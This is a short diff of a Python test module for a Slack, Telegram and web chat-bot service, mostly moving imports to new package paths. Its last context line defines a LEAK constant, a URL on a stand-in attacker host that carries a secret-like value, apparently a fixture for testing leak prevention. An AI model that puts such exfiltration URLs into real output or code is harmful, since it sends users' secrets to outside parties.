@@ -11,12 +11,12 @@ from standins.running import slack_bot, telegram_bot
 from standins.slack_api import BOT_USER, SlackApi, limited
 
 from botservice import Attachment, Storage, Tool, ToolCall
-from botservice.settings import Settings
+from botservice.config.settings import Settings
 from transports.registry import build_slack, build_telegram
 from transports.slack.app import Manners
-from transports.slack.outgoing.draft import Draft, Style, Tempo
-from transports.slack.outgoing.formatting import Pings, before_address, find_address
-from transports.web.outgoing.markdown import render_markdown
+from transports.slack.draft import Draft, Style, Tempo
+from transports.slack.formatting import Pings, before_address, find_address
+from transports.web.markdown import render_markdown
 from transports.web.pages import HEADERS
 
 LEAK = "https://evil.example/?d=swordfish"
